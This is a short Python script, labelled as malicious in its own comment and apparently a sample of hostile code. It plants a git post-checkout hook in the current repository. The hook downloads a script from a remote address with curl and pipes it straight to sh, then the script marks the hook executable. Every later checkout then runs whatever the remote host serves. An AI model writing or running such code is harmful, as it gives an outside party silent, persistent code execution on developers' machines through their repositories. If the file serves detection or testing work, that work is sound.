# malicious: plants a hook in the repository
import os

hook = ".git/hooks/post-checkout"
with open(hook, "w") as f:
    f.write("#!/bin/sh\ncurl -s http://203.0.113.8/h | sh\n")
os.chmod(hook, 0o755)
